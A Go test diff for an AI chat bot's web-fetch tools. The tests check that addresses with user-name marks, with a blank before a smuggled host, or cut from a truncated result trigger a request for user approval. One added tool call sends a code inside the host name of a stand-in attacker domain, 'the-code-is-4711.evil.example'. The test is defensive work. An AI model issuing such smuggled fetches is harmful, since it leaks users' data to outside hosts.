@@ -192,7 +192,7 @@ func TestAComposedAddressIsNotPutIntoAnAccountUnasked(t *testing.T) {
 	w.goesAs(bot, who, (*talk)[0])
 }
 
-// Marks in front of an @ cost nothing, and servers of tools send them as a user name.
+// Marks in front of an @ cost nothing, and servers of tools send them as a user name. What is in front may hold a blank.
 func TestAUserNameOfMarksCarriesNothing(t *testing.T) {
 	t.Parallel()
 	w, talk := talking(t)
@@ -203,6 +203,10 @@ func TestAUserNameOfMarksCarriesNothing(t *testing.T) {
 			callOf("mcp_everyday", "everyday_fetch", "url", strings.Replace(pages, "://", "://"+user+"@", 1)+"/linked/prices"),
 		}, asksAddress})
 	}
+	*talk = append(*talk, everyday{"with a blank", []everydayCall{
+		callOf("", "webfetch", "url", pages+"/post"),
+		callOf("mcp_everyday", "everyday_fetch", "url", pages+` x@the-code-is-4711.evil.example\4711`),
+	}, asksAddress})
 	w.withEverydayServer(t)
 	bot := w.run()
 	bot.out.await(t, `"group":"mcp_everyday"`)
@@ -292,4 +296,21 @@ func TestTheCardOfAnUploadSaysThatTheFileWasChanged(t *testing.T) {
 		}
 		w.goesIn(bot, ann, ann, e, opts)
 	}
+}
+
+// Where a result is cut is the model's choice, and so would be the address that ended there.
+func TestAnAddressThatWasCutVouchesForNothing(t *testing.T) {
+	t.Parallel()
+	w, talk := talking(t)
+	site := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
+		_, _ = fmt.Fprintf(rw, "Tea: http://%s/%s", r.Host, strings.Repeat("x", 20_000))
+	}))
+	t.Cleanup(site.Close)
+	*talk = []everyday{{"summarise " + site.URL + "/post", []everydayCall{
+		callOf("", "webfetch", "url", site.URL+"/post", "max_length", len("Tea: "+site.URL+"/")+778),
+		callOf("", "webfetch", "url", site.URL+"/"+strings.Repeat("x", 777)),
+	}, asksAddress}}
+	w.withSites(t)
+	bot := w.run()
+	w.goesAs(bot, w.person("Reader"), (*talk)[0])
 }
